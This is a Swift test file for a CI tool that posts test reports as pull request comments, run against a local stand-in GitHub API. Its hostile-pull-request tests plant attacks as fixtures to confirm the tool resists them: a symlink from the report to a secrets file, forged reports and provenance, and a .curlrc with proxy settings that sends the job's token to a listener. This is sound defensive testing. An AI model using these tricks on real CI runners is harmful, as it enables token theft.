import Foundation
import PrePushCommandTestSupport
import PrePushTestSupport
import Testing

/// `prepush comment` against a local stand-in for GitHub's REST API (Tests/Fixtures/github-api):
/// one comment per workflow and job, created and then updated, never duplicated; a fork's read-only
/// token and a rate limit keep the body in a file without failing the step. And as a pull request
/// attacks it (issue 51): it posts only reports this job's run of prepush wrote, through the
/// confined checkout layer, updates only its own comment, and curl reads none of the job's files.
@Suite(.serialized, .timeLimit(.minutes(3))) struct CommentTests {
    struct StandInDidNotStart: Error {
        let output: String
    }

    /// The stand-in in `mode`, and its base URL.
    static func standIn(_ mode: String) throws -> (RunningCommand, String) {
        let server = try Command.start("python3", ["-u", Fixtures.own + "/github-api/stand-in.py", mode, "secret-token"],
                                       environment: ProcessInfo.processInfo.environment)
        for _ in 0..<200 {
            if let port = server.standardOutputSoFar.split(separator: "\n").first(where: { $0.hasPrefix("port ") }).flatMap({ Int($0.dropFirst(5)) }) {
                return (server, "http://127.0.0.1:\(port)")
            }
            usleep(50_000)
        }
        server.send(SIGKILL)
        throw StandInDidNotStart(output: server.wait().combined)
    }

    /// The environment of a pull request's job (run 4242, attempt 1, job `tests`), in a repository with a commit.
    static func job(api: String) throws -> (GitRepository, [String: String]) {
        let repo = try GitRepository(prefix: "prepush-comment")
        try repo.write("# app\n", to: "README.md")
        try repo.commitAll("first")
        let event = try repo.root.write(#"{"action": "synchronize", "number": 7, "pull_request": {"number": 7}}"#, to: "event.json")
        var environment = repo.environment
        environment["GITHUB_ACTIONS"] = "true"
        environment["GITHUB_REPOSITORY"] = "o/r"
        environment["GITHUB_API_URL"] = api
        environment["GITHUB_EVENT_PATH"] = event
        environment["GITHUB_TOKEN"] = "secret-token"
        environment["GITHUB_WORKFLOW"] = "CI"
        environment["GITHUB_JOB"] = "tests"
        environment["GITHUB_RUN_ID"] = "4242"
        environment["GITHUB_RUN_ATTEMPT"] = "1"
        return (repo, environment)
    }

    /// The job's run of prepush writes results.md (and its provenance.json) from a real captured run.
    @discardableResult
    static func writeReport(_ repo: GitRepository, _ environment: [String: String]) throws -> String {
        let run = try InProcessCLI.run(["results", Fixtures.own + "/captured/sample-swift-test-linux-6.3.1.txt", "--format", "markdown",
                                         "--output-dir", ".prepush/reports"], in: repo.path, environment: environment)
        #expect(run.status == 1, "the captured run has failing tests: \(run)")
        return try #require(repo.root.read("work/.prepush/reports/results.md"))
    }

    static func get(_ api: String, _ path: String) throws -> [[String: Any]] {
        let listed = try Command.run("curl", ["-sS", api + path], environment: ProcessInfo.processInfo.environment)
        return try #require(try JSONSerialization.jsonObject(with: Data(listed.standardOutput.utf8)) as? [[String: Any]], "\(listed)")
    }

    static func state(_ api: String) throws -> [[String: Any]] { try get(api, "/state") }

    static func seed(_ api: String, body: String, login: String) throws {
        let payload = String(data: try JSONSerialization.data(withJSONObject: ["body": body, "login": login]), encoding: .utf8)!
        _ = try Command.run("curl", ["-sS", "-X", "POST", "--data-binary", payload, api + "/seed"], environment: ProcessInfo.processInfo.environment)
    }

    @Test func theJobsCommentIsCreatedThenUpdatedNeverDuplicated() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        let report = try Self.writeReport(repo, environment)
        let first = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(first.status == 0 && first.standardOutput == "prepush: commented on pull request #7\n", "\(first)")
        let second = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(second.status == 0 && second.standardOutput == "prepush: updated its comment on pull request #7\n", "\(second)")
        let comments = try Self.state(api)
        #expect(comments.count == 1)
        #expect((comments.first?["body"] as? String) == "<!-- prepush:comment CI / tests -->\n" + report)
        // Another job of the workflow has its own comment, of its own run of prepush.
        var other = environment
        other["GITHUB_JOB"] = "ui"
        try Self.writeReport(repo, other)
        #expect(try InProcessCLI.run(["comment"], in: repo.path, environment: other).standardOutput == "prepush: commented on pull request #7\n")
        #expect(try Self.state(api).count == 2)
    }

    @Test func aForksReadOnlyTokenKeepsTheBodyForAFollowUpAndTheStepPasses() throws {
        let (server, api) = try Self.standIn("fork")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 0, "\(run)")
        #expect(run.standardOutput.hasPrefix("prepush: note: the token cannot comment here (HTTP 403: a fork's pull request gets a read-only token); it was not posted; its body is in .prepush/reports/comment.md"), "\(run)")
        #expect(repo.root.read("work/.prepush/reports/comment.md")?.hasPrefix("<!-- prepush:comment CI / tests -->\n## ❌") == true)
        #expect(try Self.state(api).isEmpty)
    }

    @Test func aRateLimitIsSaidAndTheStepPasses() throws {
        let (server, api) = try Self.standIn("ratelimit")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 0 && run.standardOutput.hasPrefix("prepush: note: GitHub's rate limit refused the comment (HTTP 403); it was not posted"), "\(run)")
    }

    @Test func outsideAPullRequestsJobThereIsNothingToCommentOn() throws {
        let (repo, environment) = try Self.job(api: "http://127.0.0.1:9")
        var push = environment
        push["GITHUB_EVENT_PATH"] = try repo.root.write(#"{"ref": "refs/heads/main"}"#, to: "push.json")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: push)
        #expect(run.status == 2 && run.standardError.contains("is not a pull request's"), "\(run)")
        var noToken = environment
        noToken["GITHUB_TOKEN"] = nil
        let tokenless = try InProcessCLI.run(["comment"], in: repo.path, environment: noToken)
        #expect(tokenless.status == 2 && tokenless.standardError.contains("GITHUB_TOKEN is not set"), "\(tokenless)")
        var elsewhere = environment
        elsewhere["GITHUB_API_URL"] = "http://203.0.113.9"
        let refused = try InProcessCLI.run(["comment"], in: repo.path, environment: elsewhere)
        #expect(refused.status == 2 && refused.standardError.contains("is not an https URL: the token goes to GitHub's API only"), "\(refused)")
    }

    // MARK: - A hostile pull request (issue 51)

    /// The pull request commits `.prepush/reports/results.md` as a link to a file outside the
    /// checkout (the job's environment, `.git/config`): nothing is read through it, nothing is sent.
    @Test func aCommittedLinkToASecretIsNeverReadNorPosted() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        let secret = try repo.root.write("GITHUB_TOKEN=secret-token SECRET-OF-THE-RUNNER\n", to: "environ")
        try FileManager.default.createDirectory(atPath: repo.path + "/.prepush/reports", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: repo.path + "/.prepush/reports/results.md", withDestinationPath: secret)
        try repo.commitAll("a report")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 2, "\(run)")
        #expect(run.standardError.contains(".prepush/reports/results.md is refused"), "\(run)")
        #expect(!run.combined.contains("SECRET-OF-THE-RUNNER"))
        let requests = try Self.get(api, "/log")
        #expect(requests.isEmpty, "\(requests)")
        // Named on the command line it is refused the same way: it is inside the checkout.
        let named = try InProcessCLI.run(["comment", ".prepush/reports/results.md"], in: repo.path, environment: environment)
        #expect(named.status == 2 && !named.combined.contains("SECRET-OF-THE-RUNNER"), "\(named)")
        #expect(try Self.get(api, "/log").isEmpty)
    }

    /// A committed `## ✅ Tests passed`, with a committed provenance.json that names this very run:
    /// a tracked file is the pull request's content, never a report.
    @Test func aCommittedReportIsNotPostedWhateverItsStampSays() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let fake = "## ✅ Tests passed\n"
        try repo.write(fake, to: ".prepush/reports/results.md")
        let digest = try Command.run("sh", ["-c", "sha256sum .prepush/reports/results.md | cut -c1-64"], in: repo.path, environment: repo.environment)
            .standardOutput.trimmingCharacters(in: .whitespacesAndNewlines)
        let manifest = try #require(repo.root.read("work/.prepush/reports/provenance.json"))
        let forged = manifest.replacingOccurrences(of: #""results.md": "[0-9a-f]{64}""#, with: "\"results.md\": \"\(digest)\"", options: .regularExpression)
        #expect(forged != manifest)
        try repo.write(forged, to: ".prepush/reports/provenance.json")
        try repo.git("add", "-f", ".prepush/reports/results.md", ".prepush/reports/provenance.json")
        try repo.git("commit", "--quiet", "-m", "a green report")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 2, "\(run)")
        #expect(run.standardError.contains("is tracked by git"), "\(run)")
        #expect(try Self.state(api).isEmpty)
    }

    /// Files of the reports folder that this job's run did not write as they are: changed after it,
    /// or written by another run (another job, an earlier attempt).
    @Test func aReportChangedSinceOrOfAnotherRunIsNotPosted() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let written = try #require(repo.root.read("work/.prepush/reports/results.md"))
        try repo.root.write("## ✅ Tests passed\n", to: "work/.prepush/reports/results.md")
        let changed = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(changed.status == 2 && changed.standardError.contains("it changed after this run of prepush wrote it"), "\(changed)")
        try repo.root.write(written, to: "work/.prepush/reports/results.md")
        var rerun = environment
        rerun["GITHUB_RUN_ATTEMPT"] = "2"
        let otherAttempt = try InProcessCLI.run(["comment"], in: repo.path, environment: rerun)
        #expect(otherAttempt.status == 2 && otherAttempt.standardError.contains("it is of attempt 1 of the run, not 2"), "\(otherAttempt)")
        var otherJob = environment
        otherJob["GITHUB_JOB"] = "lint"
        let fromOtherJob = try InProcessCLI.run(["comment"], in: repo.path, environment: otherJob)
        #expect(fromOtherJob.status == 2 && fromOtherJob.standardError.contains("it is of job tests, not this job lint"), "\(fromOtherJob)")
        #expect(try Self.state(api).isEmpty)
        // As the run wrote it, it is posted.
        #expect(try InProcessCLI.run(["comment"], in: repo.path, environment: environment).status == 0)
    }

    /// A committed `.prepush` link: the comment neither reads the folder it leads to nor writes its
    /// fallback body there.
    @Test func aCommittedReportsFolderLinkIsNotFollowed() throws {
        let (server, api) = try Self.standIn("fork")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        // The folder it leads to holds a report of this very run, as the attacker prepared it.
        let elsewhere = try TemporaryDirectory(prefix: "prepush-elsewhere")
        try Self.writeReport(repo, environment)
        try FileManager.default.moveItem(atPath: repo.path + "/.prepush", toPath: elsewhere.url("prepush"))
        try FileManager.default.createSymbolicLink(atPath: repo.path + "/.prepush", withDestinationPath: elsewhere.url("prepush"))
        try repo.git("add", ".prepush")
        try repo.git("commit", "--quiet", "-m", "link")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 2, "\(run)")
        #expect(run.standardError.contains(".prepush is a symbolic link"), "\(run)")
        #expect(!FileManager.default.fileExists(atPath: elsewhere.url("prepush/reports/comment.md")))
        #expect(try Self.get(api, "/log").isEmpty)
    }

    /// Someone else's comment that starts with the job's marker is not adopted: prepush writes its
    /// own, and the other stays as it was.
    @Test func onlyItsOwnCommentIsUpdated() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let forged = "<!-- prepush:comment CI / tests -->\n## ✅ Tests passed\n"
        try Self.seed(api, body: forged, login: "mallory")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 0 && run.standardOutput == "prepush: commented on pull request #7\n", "\(run)")
        let comments = try Self.state(api)
        #expect(comments.count == 2)
        #expect((comments[0]["body"] as? String) == forged)
        #expect((comments[1]["body"] as? String)?.contains("## ❌") == true)
        #expect(try Self.get(api, "/log").allSatisfy { ($0["method"] as? String) != "PATCH" })
    }

    /// Its comment on the second page of a busy pull request is found and updated, not duplicated.
    @Test func itsOwnCommentIsFoundOnAnyPage() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        for index in 0..<130 { try Self.seed(api, body: "comment \(index)", login: "reviewer") }
        try Self.seed(api, body: "<!-- prepush:comment CI / tests -->\nold", login: "github-actions[bot]")
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: environment)
        #expect(run.status == 0 && run.standardOutput == "prepush: updated its comment on pull request #7\n", "\(run)")
        let comments = try Self.state(api)
        #expect(comments.count == 131)
        #expect((comments[130]["body"] as? String)?.contains("## ❌") == true)
    }

    /// A stage of the pull request ran in this job a step earlier and wrote `~/.curlrc` (and a
    /// `CURL_HOME` one) to send the token elsewhere: curl reads neither.
    @Test func curlReadsNoConfigurationAStageCouldHaveWritten() throws {
        let (server, api) = try Self.standIn("ok")
        defer { server.send(SIGKILL); _ = server.wait() }
        let (listener, elsewhere) = try Self.standIn("listen")
        defer { listener.send(SIGKILL); _ = listener.wait() }
        let (repo, environment) = try Self.job(api: api)
        try Self.writeReport(repo, environment)
        let curlrc = "proxy = \"\(elsewhere)\"\nheader = \"X-Leak: yes\"\nurl = \"\(elsewhere)/leak\"\n"
        try repo.root.write(curlrc, to: ".curlrc")
        try repo.root.write(curlrc, to: "curlhome/.curlrc")
        var job = environment
        job["CURL_HOME"] = repo.root.url("curlhome")
        job["HTTP_PROXY"] = elsewhere
        job["http_proxy"] = elsewhere
        job["ALL_PROXY"] = elsewhere
        let run = try InProcessCLI.run(["comment"], in: repo.path, environment: job)
        #expect(run.status == 0, "\(run)")
        #expect(try Self.get(elsewhere, "/log").isEmpty, "the token went elsewhere")
        let requests = try Self.get(api, "/log")
        #expect(!requests.isEmpty && requests.allSatisfy { ($0["authorization"] as? String) == "Bearer secret-token" })
        #expect(requests.allSatisfy { !(($0["body"] as? String) ?? "").contains("secret-token") })
    }
}
